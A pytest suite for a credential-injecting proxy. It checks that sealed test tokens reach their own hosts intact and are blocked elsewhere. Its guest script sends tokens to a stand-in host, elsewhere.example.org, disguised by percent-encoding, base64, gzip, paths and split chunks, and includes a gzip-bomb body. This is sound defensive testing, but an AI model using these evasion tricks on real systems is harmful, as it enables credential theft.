# SPDX-License-Identifier: LGPL-2.1-or-later
"""Every kind of place, on a real run, over HTTP/1.1 and over HTTP/2: golden bytes at the origin, what is refused, and where no value is afterwards."""

import base64
import gzip
import json
import re
import subprocess
import zlib
from urllib.parse import quote

import pytest

# A character that means something in each encoding; unmistakable, so that a search for one can say "not here".
VALUES = {
    "test-token": "REALTOKEN-0123456789abcdef-REALTOKEN",
    "test-login": 'REAL"LOGIN\\&a=b%25+/-REALLOGIN',
    "test-passing": "REALPASSING-0123456789-REALPASSING",
    "test-replacing": "REALREPLACING-0123456789-REALREPLACING",
}
TOKEN, LOGIN, PASSING, REPLACING = VALUES.values()
ENVIRONMENT = dict(zip(("TOKEN", "LOGIN", "PASSING", "REPLACING"), VALUES))

# Each request prints a line "== NAME STATUS" after its answer; X-Case tells them apart at the origin.
GUEST = r"""
ask() { name=$1; shift; curl -sS -N -m 20 -w "\n== $name %{http_code}\n" -H "x-case: $name" "$@" 2>&1 || echo "== $name failed"; }
w=https://${V}www.example.org l=https://${V}login.example.org p=https://${V}passing.example.org r=https://${V}replacing.example.org
e=https://${V}elsewhere.example.org
json='content-type: application/json' form='content-type: application/x-www-form-urlencoded'
for n in TOKEN LOGIN PASSING REPLACING; do eval "echo sentinel $n \$$n"; done

ask header -H "x-token: $TOKEN" $w/v1/x
ask bearer -H "authorization: Bearer $TOKEN" $w/v1/x
ask basic-password -u "me:$TOKEN" $w/v1/x
ask basic-user -u "$TOKEN:x-oauth-basic" $w/v1/x
ask basic-both -u "$TOKEN:$TOKEN" $w/v1/x
ask query "$l/feed?a=%20+&key=$LOGIN&b"
ask json -H "$json" -d "{ \"auth\":[ {\"secret\":\"$LOGIN\"} ], \"n\": 1.50 }" $l/echo
ask json-chunked -H "$json" -H 'transfer-encoding: chunked' -d "{\"auth\":[{\"secret\":\"$LOGIN\"}]}" $l/echo
ask json-expect -H "$json" -H 'expect: 100-continue' -d "{\"auth\":[{\"secret\":\"$LOGIN\"}]}" $l/echo
ask form -d "a=1+2&client_secret=$LOGIN&b=%41" $l/echo
ask form-without -d "a=1" $l/echo
python3 - <<'X'
# the sentinel falls apart into single characters, each in a chunk of its own
import http.client, os
c = http.client.HTTPSConnection("login.example.org", timeout=20)   # which speaks HTTP/1.1 only
body = '{"auth":[{"secret":"%s"}]}' % os.environ["LOGIN"]
c.request("POST", "/echo", body=(x.encode() for x in body), headers={"content-type": "application/json", "x-case": "json-pieces"}, encode_chunked=True)
r = c.getresponse(); print(r.read().decode()); print("== json-pieces", r.status)
X

ask pass-own -H "x-token: own" $p/
ask pass-sentinel -H "x-token: $PASSING" $p/
ask replace-own -H "x-token: own" $r/
ask replace-basic -u me:own $r/
ask replace-sentinel -H "authorization: Bearer $REPLACING" $r/
ask foreign -H "x-token: own" $w/v1/x
ask foreign-basic -u me:own $w/v1/x
ask foreign-json -H "$json" -d '{"auth":[{"secret":"own"}]}' $l/echo
ask foreign-query "$l/feed?key=own"

ask misuse-header -H "x-token: $TOKEN" $e/
ask misuse-basic -u "me:$TOKEN" $e/
ask misuse-path "$e/$TOKEN"
ask misuse-percent "$e/?q=%67%68%70_${TOKEN#ghp_}"
ask misuse-base64 "$e/?q=$(printf 'xy%s' "$TOKEN" | base64 -w0)"
ask misuse-body -d "note=$TOKEN" $e/echo
ask misuse-body-percent -d "note=%67hp%5F${TOKEN#ghp_}" $e/echo
ask misuse-body-json -H "$json" -d "{\"note\":\"\u0067hp_${TOKEN#ghp_}\"}" $e/echo
ask misuse-body-base64 -d "note=$(printf 'x%s' "$TOKEN" | base64 -w0)" $e/echo
printf 'note=%s' "$TOKEN" | gzip | ask misuse-body-gzip -H 'content-encoding: gzip' --data-binary @- $e/echo
(printf 'note=%s ' "${TOKEN%?}"; head -c 3000000 /dev/zero) | gzip -n | ask gzip-control -H 'content-encoding: gzip' --data-binary @- $e/echo
ask misuse-other-host -H "x-token: $LOGIN" $w/v1/x
ask misuse-other-place -H "x-other: $TOKEN" $w/v1/x
ask misuse-query-path "$l/feeds?key=$LOGIN"
ask misuse-json-elsewhere -H "$json" -d "{\"auth\":[{\"secret\":\"$LOGIN\"}],\"copy\":\"$LOGIN\"}" $l/echo
ask misuse-form-elsewhere -d "copy=$LOGIN" $l/echo

ask scope -H "x-token: $TOKEN" $w/v2/x
ask signed -H "x-token: $TOKEN" -H 'signature-input: sig1=("@method")' $w/v1/x
ask signed-aws -H "authorization: AWS4-HMAC-SHA256 Credential=$TOKEN/20260101/x" $w/v1/x
ask digest -H "$form" -H 'content-md5: Q2hlY2sgSW50ZWdyaXR5IQ==' -d "client_secret=$LOGIN" $l/echo
ask digest-control -H 'content-md5: Q2hlY2sgSW50ZWdyaXR5IQ==' -H "x-token: $TOKEN" -d "x=1" $w/echo
encoded() { n=$1; shift; ask "$n" -H "$json" -H 'content-encoding: gzip' --data-binary @- $l/echo; }
printf '{"auth":[{"secret":"%s"}]}' "$LOGIN" | gzip | encoded gzip
printf '{"auth":[{"secret":""}]}' | gzip -n1 | encoded gzip-without
(printf '{"auth":[{"secret":"%s"}],"n":"' "$LOGIN"; head -c 3000000 /dev/zero | tr '\0' x; printf '"}') | gzip | encoded gzip-bomb
(printf '{"auth":[{"secret":"%s"}],"n":"' "$LOGIN"; head -c 270000 /dev/zero | tr '\0' x; printf '"}') | gzip | encoded gzip-large
printf '{"auth":[{"secret":"%s"}]}' "$LOGIN" | gzip | head -c 40 | encoded gzip-cut
printf '{"auth":[{"secret":"%s"}]}' "$LOGIN" | encoded gzip-plain
printf '{"auth":[{"secret":"x"}],"a":"%s"}' "$LOGIN" | gzip | encoded misuse-gzip
printf '{"auth":[{"secret":"x"}],"a":"%s"}' "$TOKEN" | gzip | encoded misuse-gzip-other
printf '{"auth":[{"secret":"%s"}]}' "$LOGIN" | ask encoded -H "$json" -H 'content-encoding: br' --data-binary @- $l/echo
printf '\0\0\0\0\2{}' | ask grpc -H 'content-type: application/grpc' -H 'grpc-encoding: gzip' --data-binary @- $l/echo
ask type -H 'content-type: text/plain' -d "client_secret=$LOGIN" $l/echo
ask malformed -H "$json" -d "{\"auth\":[{\"secret\":\"$LOGIN\",\"secret\":\"$LOGIN\"}]}" $l/echo
head -c 300000 /dev/zero | tr '\0' x | ask large -H "$form" --data-binary @- $l/echo

ask second-path -H "destination: $l/elsewhere" -d "a=1" $l/echo
ask second-path-upper -H "Destination: /elsewhere" -d "a=1" $l/echo
ask second-path-copy -H "x-amz-copy-source: /bucket/key" -d "a=1" $l/echo
ask second-path-control -H "destination: $e/other" -d "a=1" $e/echo

c=http://elsewhere.example.org o=http://www.example.org
ask clear-header -H "x-token: $TOKEN" $c/
ask clear-own-host -H "x-token: $TOKEN" $o/v1/x
ask clear-basic -u "me:$TOKEN" $c/
ask clear-percent "$c/?q=%67%68%70_${TOKEN#ghp_}"
ask clear-base64 "$c/?q=$(printf 'xy%s' "$TOKEN" | base64 -w0)"
ask clear-proxy -x http://10.255.255.1:3128 -H "x-token: $LOGIN" $c/
ask clear-body -d "note=$TOKEN" $c/echo
ask clear-body-json -H "$json" -d "{\"note\":\"\u0067hp_${TOKEN#ghp_}\"}" $c/echo
(seq 300000; printf 'note=%s' "$TOKEN") | gzip | ask clear-body-gzip --data-binary @- $c/echo
printf 'note=%s' "${TOKEN%?}" | gzip | ask clear-gzip-control --data-binary @- $c/echo
(head -c 3000000 /dev/zero | tr '\0' x; printf ' %s' "$LOGIN") | ask clear-body-deep -H 'content-type: text/plain' --data-binary @- $c/echo
python3 - <<'X'
# in a second request on a connection, in pieces, each in a chunk of its own
import http.client, os
c = http.client.HTTPConnection("elsewhere.example.org", 8081, timeout=20)
for name, text in ("clear-pieces-control", os.environ["TOKEN"][:-1]), ("clear-pieces", os.environ["TOKEN"]):
    c.request("POST", "/" + name, body=(x.encode() for x in "a=" + text), encode_chunked=True)
    r = c.getresponse(); print(r.read().decode()); print("==", name, r.status)
X
ask clear-control -H "x-token: ${TOKEN%?}" -d "note=${TOKEN%?}" $c/echo
ask clear-second-path-control -H "destination: $c/other" -d "a=1" $c/echo
ask clear-proxy-control -x http://10.255.255.1:3128 $c/
ask control $e/
"""


def origin_log(world):
    """What the origins got of each case, in one form: {"head": its lines, "headers", "body"}."""
    entries, log = world.log("origin"), world.log("h2")
    bodies = {(entry["connection"], entry["stream"]): entry["body"] for entry in log if "ended" in entry}
    for entry in log:
        if "headers" in entry:
            fields = dict(entry["headers"])
            lines = [f"{name}: {value}" for name, value in entry["headers"] if name[0] != ":"]
            entries.append({"head": [f"{fields[':method']} {fields[':path']} HTTP/1.1", *lines], "headers": fields,
                            "body": bodies.get((entry["connection"], entry["stream"]), "")})
    for entry in entries:
        entry["headers"] = {name.lower(): value for name, value in entry["headers"].items()}
    return {entry["headers"].get("x-case"): entry for entry in entries}


@pytest.fixture(scope="module", params=["", "h2-"], ids=["HTTP/1.1", "HTTP/2"])
def ran(request, host, world):
    """One run that asks for everything above, with credentials that come and go with it. Of each host there are two, by the version that it speaks."""
    for name, value in VALUES.items():
        host.seal_credential(name, value)
    world.forget_logs()
    try:
        done = host.exec_run(f"V={request.param}\n" + GUEST, workflow="exec-places")
    finally:
        for name in VALUES:
            host.run(["anchorctl", "credential", "remove", "--quiet", name])
    assert "== control" in done.stdout, done.stdout + done.stderr
    done.item = host.show(re.search(r"\bi[0-9a-z]{12}\b", done.stdout + done.stderr).group(0))
    done.run = done.item["runs"][0]["id"]
    done.status = dict(re.findall(r"^== (\S+) (\S+)$", done.stdout, re.M))
    done.sentinel = dict(re.findall(r"^sentinel (\S+) (\S+)$", done.stdout, re.M))
    done.version = request.param
    done.origin = origin_log(world)
    done.web = [entry["target"].strip("/") for entry in world.log("web") if "clear" in entry.get("target", "")]
    return done


def head(entry):
    """The request's head without what the client and inject always send. Names are in lower case, as HTTP/2 has them."""
    usual = ("host", "accept", "accept-encoding", "user-agent", "x-case", "connection")
    return [lower(line) if i else line for i, line in enumerate(entry["head"]) if i == 0 or line.split(":")[0].lower() not in usual]


def lower(line):
    name, colon, value = line.partition(":")
    return name.lower() + colon + value


def basic(text):
    return "Authorization: Basic " + base64.b64encode(text.encode()).decode()


IN_JSON = json.dumps(LOGIN)
IN_URL = quote(LOGIN, safe="")
GOLDEN = {
    "header": (["GET /v1/x HTTP/1.1", f"x-token: {TOKEN}"], ""),
    "bearer": (["GET /v1/x HTTP/1.1", f"authorization: Bearer {TOKEN}"], ""),
    "basic-password": (["GET /v1/x HTTP/1.1", basic(f"me:{TOKEN}")], ""),
    "basic-user": (["GET /v1/x HTTP/1.1", basic(f"{TOKEN}:x-oauth-basic")], ""),
    "basic-both": (["GET /v1/x HTTP/1.1", basic(f"{TOKEN}:{TOKEN}")], ""),
    "query": ([f"GET /feed?a=%20+&key={IN_URL}&b HTTP/1.1"], ""),
    "json": (["POST /echo HTTP/1.1", "Content-Length: {}", "content-type: application/json"],
             '{ "auth":[ {"secret":' + IN_JSON + '} ], "n": 1.50 }'),
    "json-chunked": (["POST /echo HTTP/1.1", "Content-Length: {}", "content-type: application/json"], '{"auth":[{"secret":' + IN_JSON + "}]}"),
    "json-expect": (["POST /echo HTTP/1.1", "Content-Length: {}", "content-type: application/json"], '{"auth":[{"secret":' + IN_JSON + "}]}"),
    "json-pieces": (["POST /echo HTTP/1.1", "Content-Length: {}", "content-type: application/json"], '{"auth":[{"secret":' + IN_JSON + "}]}"),
    "form": (["POST /echo HTTP/1.1", "Content-Length: {}", "Content-Type: application/x-www-form-urlencoded"], f"a=1+2&client_secret={IN_URL}&b=%41"),
    "form-without": (["POST /echo HTTP/1.1", "Content-Length: {}", "Content-Type: application/x-www-form-urlencoded"], "a=1"),
    "pass-own": (["GET / HTTP/1.1", "x-token: own"], ""),
    "pass-sentinel": (["GET / HTTP/1.1", f"x-token: {PASSING}"], ""),
    "replace-own": (["GET / HTTP/1.1", f"x-token: {REPLACING}"], ""),
    "replace-basic": (["GET / HTTP/1.1", basic(f"me:{REPLACING}")], ""),
    "replace-sentinel": (["GET / HTTP/1.1", f"authorization: Bearer {REPLACING}"], ""),
    "digest-control": (["POST /echo HTTP/1.1", "Content-Length: {}", "content-md5: Q2hlY2sgSW50ZWdyaXR5IQ==", f"x-token: {TOKEN}",
                        "Content-Type: application/x-www-form-urlencoded"], "x=1"),
    "control": (["GET / HTTP/1.1"], ""),
}


@pytest.mark.parametrize("name", GOLDEN)
def test_golden_bytes(ran, name):
    lines, body = GOLDEN[name]
    assert ran.status[name] == "200"
    entry = ran.origin[name]
    assert entry["body"] == body
    assert sorted(head(entry)) == sorted([lines[0], *(lower(line.format(len(body))) for line in lines[1:])])
    assert (":scheme" in entry["headers"]) == (ran.version != "" and name != "json-pieces")   # whose client speaks HTTP/1.1 only


def test_gzip_body_is_opened_and_closed_again(ran):
    """Rewritten and encoded anew with its new length; what nothing is put into leaves byte for byte as it came."""
    assert ran.status["gzip"] == ran.status["gzip-without"] == "200"
    sent = {name: ran.origin[name]["body"].encode("latin-1") for name in ("gzip", "gzip-without")}
    assert json.loads(gzip.decompress(sent["gzip"])) == {"auth": [{"secret": LOGIN}]}
    assert {int(ran.origin[name]["headers"]["content-length"]) - len(body) for name, body in sent.items()} == {0}
    assert ran.origin["gzip"]["headers"]["content-encoding"] == "gzip"
    assert sent["gzip-without"] == subprocess.run(["gzip", "-n1"], input=b'{"auth":[{"secret":""}]}', capture_output=True, check=True).stdout


@pytest.mark.parametrize("name, status, reason", [
    *((name, "403", "credential-misuse") for name in (
        "misuse-header", "misuse-basic", "misuse-path", "misuse-percent", "misuse-base64", "misuse-body", "misuse-body-percent", "misuse-body-json",
        "misuse-body-base64", "misuse-body-gzip", "misuse-other-host", "misuse-other-place", "misuse-query-path", "misuse-json-elsewhere", "misuse-form-elsewhere")),
    *((name, "403", "foreign-credential") for name in ("foreign", "foreign-basic", "foreign-json", "foreign-query")),
    ("scope", "403", "credential-scope"),
    *((name, "403", "second-path") for name in ("second-path", "second-path-upper", "second-path-copy")),
    *((name, "403", "credential-misuse") for name in ("misuse-gzip", "misuse-gzip-other")),
    *((name, "422", "cannot-substitute") for name in ("signed", "signed-aws", "digest", "malformed", "gzip-cut", "gzip-plain")),
    *((name, "415", "body-type") for name in ("encoded", "type", "grpc")),
    *((name, "413", "body-too-large") for name in ("large", "gzip-bomb", "gzip-large")),
])
def test_refused(ran, name, status, reason):
    assert ran.status[name] == status
    answer = ran.stdout[:ran.stdout.index(f"\n== {name} ")].splitlines()[-1]
    assert json.loads(answer)["error"]["reason"] == reason
    # what is found in a body that is passed on as it comes ends the request there: the origin has its head, and nothing of the body
    assert name not in ran.origin or (name.startswith("misuse-body") and ran.origin[name]["body"] == "")


CLEAR = ("clear-header", "clear-own-host", "clear-basic", "clear-percent", "clear-base64", "clear-proxy", "clear-body", "clear-body-json", "clear-body-gzip", "clear-body-deep", "clear-pieces")


@pytest.mark.parametrize("name", CLEAR)
def test_blocked_in_cleartext(ran, name):
    """By the proxy, which reads it: on any host, the credential's own too, since nothing is put in its place there."""
    assert ran.status[name] == "403"
    answer = ran.stdout[:ran.stdout.index(f"\n== {name} ")].splitlines()[-1]
    assert json.loads(answer)["reason"] == "credential-misuse"
    assert name not in ran.origin and name not in ran.web


def test_the_same_without_a_sentinel(ran):
    assert [ran.status[name] for name in ("clear-control", "clear-pieces-control", "clear-proxy-control", "clear-gzip-control", "gzip-control")] == ["200"] * 5
    assert gzip.decompress(ran.origin["gzip-control"]["body"].encode("latin-1")) == f"note={ran.sentinel['TOKEN'][:-1]} ".encode() + bytes(3000000)
    assert ran.origin["clear-control"]["body"] == "note=" + ran.sentinel["TOKEN"][:-1]
    assert ran.web == ["clear-pieces-control"]


def test_second_path_where_no_rule_has_one(ran):
    """What names another path is a field like any other then, inspected or in the clear."""
    for name in ("second-path-control", "clear-second-path-control"):
        assert ran.status[name] == "200" and ran.origin[name]["headers"]["destination"].endswith("elsewhere.example.org/other")


def test_no_sentinel_arrives(ran, world):
    """In no form that can be read: over all that any server of the world has seen."""
    seen = "\n".join(json.dumps(entry) for log in ("origin", "h2", "provider", "other", "web", "git") for entry in world.log(log))
    seen += "\n" + "\n".join(base64.b64decode(found + "==").decode("latin-1") for found in re.findall(r"Basic ([A-Za-z0-9+/]+)", seen))
    assert TOKEN in seen                                           # the control: what is searched has the requests
    for sentinel in ran.sentinel.values():
        assert sentinel not in seen


def test_sentinels_have_their_shapes(ran):
    token = ran.sentinel["TOKEN"]
    assert re.fullmatch(r"ghp_[A-Za-z0-9]{36}", token)
    checksum, left = "", zlib.crc32(token[4:34].encode())
    while len(checksum) < 6:
        checksum = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"[left % 62] + checksum
        left //= 62
    assert token[34:] == checksum
    assert re.fullmatch(r"cs-[A-Za-z0-9_-]{37}", ran.sentinel["LOGIN"])
    assert re.fullmatch(r"[0-9a-f]{40}", ran.sentinel["PASSING"])


def test_answers_have_the_sentinel(ran):
    """/echo sends back what it got: each value comes back as its sentinel."""
    answer = ran.stdout[:ran.stdout.index("\n== form ")].splitlines()[-1]
    assert answer == f"a=1+2&client_secret={ran.sentinel['LOGIN']}&b=%41"
    answer = ran.stdout[:ran.stdout.index("\n== json ")].splitlines()[-1]
    assert json.loads(answer)["auth"][0]["secret"] == ran.sentinel["LOGIN"]


def test_no_value_stays(host, ran):
    """Journals, audit, ledger, the run's output, files and command lines, with the sentinels as control."""
    everything = host.run("journalctl --no-pager --namespace='*' -o export --all; find /var/lib/anchorhold /run/anchorhold -type f -exec cat {} +; "
                          "cat /proc/[0-9]*/cmdline /proc/[0-9]*/environ; ls -R /var/lib/systemd/coredump 2>/dev/null", check=False, text=False, timeout=120).stdout
    everything += (ran.stdout + ran.stderr).encode() + json.dumps(ran.item).encode()
    for value in VALUES.values():
        for form in (value, quote(value, safe=""), json.dumps(value)[1:-1], base64.b64encode(value.encode()).decode()):
            assert form.encode() not in everything
    for sentinel in ran.sentinel.values():
        assert sentinel.encode() in everything
    values = [option for value in VALUES.values() for option in ("-e", value)]
    found = host.run(["grep", "-rlaF", "--devices=skip", *values, "/var", "/run", "/tmp"], check=False, timeout=120).stdout.split()
    assert [path for path in found if not path.startswith("/run/credentials/")] == []


def test_the_run_is_flagged(host, ran):
    flags = ran.item["flags"]
    assert {flag["kind"] for flag in flags} == {"credential.misuse"} and {flag["run"] for flag in flags} == {ran.run}
    assert any("credential test-token" in flag["text"] and ran.version + "elsewhere.example.org" in flag["text"] for flag in flags)
    shown = host.anchorctl("show", ran.item["id"]).stdout
    assert re.search(r"^ +Flagged: credential\.misuse: the sentinel of credential test-token was blocked on its way to "
                     + re.escape(ran.version + "elsewhere.example.org"), shown, re.M)
    clean = host.exec_run("true")                                  # the control
    assert host.show(re.search(r"\bi[0-9a-z]{12}\b", clean.stdout + clean.stderr).group(0))["flags"] == []


def test_records(host, ran):
    def records(event):
        lines = host.run(["journalctl", "--namespace=anchorhold", "--no-pager", "-o", "json", f"ANCHORHOLD_RUN={ran.run}",
                          f"ANCHORHOLD_EVENT={event}"]).stdout.splitlines()
        return [json.loads(json.loads(line)["ANCHORHOLD_DATA"]) for line in lines]

    assert {record["credential"] for record in records("credential.used")} == set(VALUES)
    misuse = records("credential.misuse")
    assert {record["name"] for record in misuse if record["port"] == 443} == {ran.version + name for name in ("elsewhere.example.org", "www.example.org", "login.example.org")}
    assert {"test-token", "test-login"} == {record["credential"] for record in misuse}
    clear = {(record["name"], record["credential"], record["where"]) for record in misuse if record["port"] == 80}
    assert clear >= {("elsewhere.example.org", "test-token", "x-token"), ("elsewhere.example.org", "test-login", "x-token"), ("www.example.org", "test-token", "x-token")}
    assert {"foreign-credential", "credential-scope", "cannot-substitute", "body-type", "body-too-large"} <= {r["reason"] for r in records("conn.deny")}
